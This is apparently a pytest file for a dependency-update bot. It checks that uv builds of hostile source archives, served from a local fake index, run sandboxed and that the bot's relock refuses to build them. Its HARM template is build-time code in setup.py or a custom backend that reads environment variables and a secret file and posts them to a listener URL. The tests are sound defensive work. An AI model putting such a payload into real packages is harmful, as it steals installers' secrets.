"""A source archive that does harm when it is built: a real uv, in a sandbox and not, alone and in our relock."""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import tarfile
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from bot.adapters.confinement import impossible
from bot.adapters.tools import tools
from bot.app import App
from bot.config import load
from remediators.api import BlockedError, ToolError, Upgrade
from remediators.uv.remediator import Uv
from remediators.uv.run import executable
from tests.bot.adapters.http_server import Asked, Reply, Server, running

SECRET = "secret-of-the-test"
REASON = re.compile(r"has no usable wheels|build")
CONFINED = pytest.mark.skipif(impossible() is not None, reason="no sandbox here")
MODES = pytest.mark.parametrize("sandbox", [pytest.param("require", marks=CONFINED), "off"])
BACKEND = (
    '[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
    '[project]\nname = "{name}"\ndynamic = ["version", "dependencies"]\n'
)
ARCHIVES = {
    "a backend of its own": {"pyproject.toml": BACKEND, "evil.py": "{harm}"},
    "setup.py": {"setup.py": "{harm}from setuptools import setup\nsetup()\n"},
}
HARM = """\
import os, urllib.request
told = repr(dict(os.environ))
try: told += open({secret!r}).read()
except OSError: pass
try: open({marker!r}, "w").write("x")
except OSError: pass
try: urllib.request.urlopen({listener!r}, told.encode())
except OSError: pass
"""
MOVES = {
    "nothing may be built": Upgrade("evil", "1.0", "2.0", direct=True),
    # What others need is told to uv, so that it runs without --no-build.
    "uv is not told to build nothing": Upgrade("acme", "1.0", "2.0", direct=True),
}


@dataclass(frozen=True)
class World:
    """An index with an archive that does harm, and what it is to find."""

    index: Server
    listener: Server
    folder: Path

    @property
    def marker(self) -> Path:
        return self.folder / "ran"


def archive(name: str, version: str, files: Mapping[str, str]) -> bytes:
    """A source archive that tells nothing of what it needs (PEP 643: Metadata 2.1 may say anything)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as made:
        told = {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n", **files}
        for path, text in told.items():
            entry = tarfile.TarInfo(f"{name}-{version}/{path}")
            entry.size = len(text.encode())
            made.addfile(entry, io.BytesIO(text.encode()))
    return raw.getvalue()


@contextmanager
def world(folder: Path, kind: str) -> Iterator[World]:
    (folder / "secret").write_text(SECRET)
    with running(lambda asked: Reply(200, b"ok")) as listener:
        places = {"secret": str(folder / "secret"), "marker": str(folder / "ran"), "listener": listener.url}
        archives = {
            f"{name}-{version}.tar.gz": archive(
                name,
                version,
                {
                    path: text.replace("{harm}", HARM.format(**places)).replace("{name}", name)
                    for path, text in ARCHIVES[kind].items()
                },
            )
            for name in ("acme", "evil")
            for version in ("1.0", "2.0")
        }
        with running(lambda asked: served(asked, archives)) as index:
            yield World(index, listener, folder)


def served(asked: Asked, archives: Mapping[str, bytes]) -> Reply:
    """An index of archives (PEP 691)."""
    name = asked.path.strip("/").rpartition("/")[2]
    if name in archives:
        return Reply(200, archives[name])
    found = [
        {
            "filename": file,
            "url": f"http://{asked.headers['host']}/files/{file}",
            "hashes": {"sha256": hashlib.sha256(content).hexdigest()},
        }
        for file, content in archives.items()
        if file.rpartition("-")[0] == name
    ]
    page = {"meta": {"api-version": "1.0"}, "name": name, "files": found}
    content_type = {"Content-Type": "application/vnd.pypi.simple.v1+json"}
    return Reply(200 if found else 404, json.dumps(page).encode(), content_type)


def app_for(here: World, sandbox: str) -> App:
    settings = {
        "cache": here.folder / "cache",
        "database": f"sqlite:///{here.folder / 'bot.db'}",
        "sandbox": sandbox,
        "registries": {"PyPI": {"url": f"{here.index.url}/simple"}},
    }
    return App.start(load(settings, {}, None), {**os.environ, "CANARY": SECRET})


PYPROJECT = '[project]\nname = "app"\nversion = "1"\nrequires-python = ">=3.11"\ndependencies = ["acme", "evil"]\n'


def lock(here: World) -> str:
    """Both at 1.0, of which there is no wheel."""
    packages = "".join(
        f'[[package]]\nname = "{name}"\nversion = "1.0"\nsource = {{ registry = "{here.index.url}/simple" }}\n'
        f'sdist = {{ url = "{here.index.url}/files/{name}-1.0.tar.gz", hash = "sha256:{"0" * 64}" }}\n\n'
        for name in ("acme", "evil")
    )
    return (
        f'version = 1\nrevision = 3\nrequires-python = ">=3.11"\n\n{packages}'
        '[[package]]\nname = "app"\nversion = "1"\nsource = { virtual = "." }\n'
        'dependencies = [{ name = "acme" }, { name = "evil" }]\n\n'
        '[package.metadata]\nrequires-dist = [{ name = "acme" }, { name = "evil" }]\n'
    )


def plainly_locked(here: World, sandbox: str) -> str:
    """What `uv lock` says of the project, free to build."""
    with app_for(here, sandbox) as app, app.workshop.scratch() as work:
        (work / "pyproject.toml").write_text(PYPROJECT)
        with pytest.raises(ToolError) as failed:
            # The archives are no good as packages, whatever else they do.
            app.workshop.run([executable(), "lock", "--default-index", f"{here.index.url}/simple"], work)
    return failed.value.stderr


def test_built_without_a_sandbox_it_does_all_its_harm(tmp_path: Path) -> None:
    with world(tmp_path, "a backend of its own") as here:
        plainly_locked(here, "off")
        assert here.marker.exists()
        assert any(SECRET.encode() in asked.body for asked in here.listener.asked)


@CONFINED
def test_built_in_the_sandbox_it_does_none(tmp_path: Path) -> None:
    with world(tmp_path, "a backend of its own") as here:
        said = plainly_locked(here, "require")
        # It did run, and asked.
        assert f"{here.listener.place} is no registry in use" in said
        assert not here.marker.exists()
        assert here.listener.asked == []
        assert SECRET not in said


@MODES
@pytest.mark.parametrize("move", MOVES)
@pytest.mark.parametrize("kind", ARCHIVES)
def test_our_relock_does_not_build_it_and_says_so(tmp_path: Path, sandbox: str, kind: str, move: str) -> None:
    uv = Uv()
    with world(tmp_path, kind) as here, app_for(here, sandbox) as app, app.workshop.scratch() as work:
        files = {"pyproject.toml": PYPROJECT.encode(), "uv.lock": lock(here).encode()}
        for name, content in files.items():
            (work / name).write_bytes(content)
        (unit,) = uv.units(sorted(files))
        url = f"{here.index.url}/simple"
        with pytest.raises((ToolError, BlockedError)) as refused:
            uv.relock(uv.expand(unit, files.get), work, [MOVES[move]], url, tools(app.http, app.workshop))
        assert not here.marker.exists()
        assert here.listener.asked == []
    assert REASON.search(str(refused.value)), str(refused.value)
    assert SECRET not in f"{refused.value}{getattr(refused.value, 'stderr', '')}"
